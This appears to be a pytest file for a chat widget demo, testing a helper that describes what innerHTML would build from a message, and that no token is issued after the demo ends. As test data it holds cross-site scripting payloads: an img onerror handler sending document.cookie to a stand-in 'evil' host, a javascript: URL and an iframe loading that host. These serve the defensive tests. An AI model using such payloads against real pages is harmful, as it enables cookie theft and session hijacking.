"""What the seed's ``innerHTML`` rendering would build from a chat message, told without rendering it."""

from __future__ import annotations

from ivs_widgets.chat.room import ChatToken
from ivs_widgets.widgets.seed_demo import innerhtml_effects


def test_plain_text_builds_nothing_but_text() -> None:
    assert innerhtml_effects("see you at 5 <3") == ["only text: nothing but characters on the screen"]


def test_an_event_handler_is_named_as_code_the_sender_would_run() -> None:
    effects = innerhtml_effects('<img src=x onerror="fetch(`//evil/?c=`+document.cookie)">')
    assert effects[0] == "a <img> element"
    assert "onerror handler" in effects[1] and "document.cookie" in effects[1]


def test_javascript_urls_and_script_like_tags_are_flagged() -> None:
    effects = innerhtml_effects('<a href=" JavaScript:alert(1)">win</a><iframe src=//evil></iframe>')
    assert any("href=' JavaScript:alert(1)'" in line for line in effects)
    assert any("<iframe>" in line and "loads" in line for line in effects)


def test_after_end_the_page_gets_no_token() -> None:
    import comm
    from comm.base_comm import BaseComm

    from ivs_widgets.widgets.seed_demo import SeedChatDemo

    class Recording(BaseComm):
        def __init__(self, **kwargs: object) -> None:
            self.sent: list[object] = []
            super().__init__(**kwargs)

        def publish_msg(self, msg_type: str, data: object = None, metadata: object = None, buffers: object = None,
                        **keys: object) -> None:
            self.sent.append(data)

    minted: list[str] = []
    original, comm.create_comm = comm.create_comm, Recording
    try:
        demo = SeedChatDemo("ws://127.0.0.1:9", lambda: minted.append("x") or ChatToken("t"), username="Ada")
        demo.end()
        demo.comm.handle_msg({"content": {"data": {"method": "custom", "content": {"action": "token"}}},
                              "buffers": []})
        assert minted == []
        demo.close()
    finally:
        comm.create_comm = original
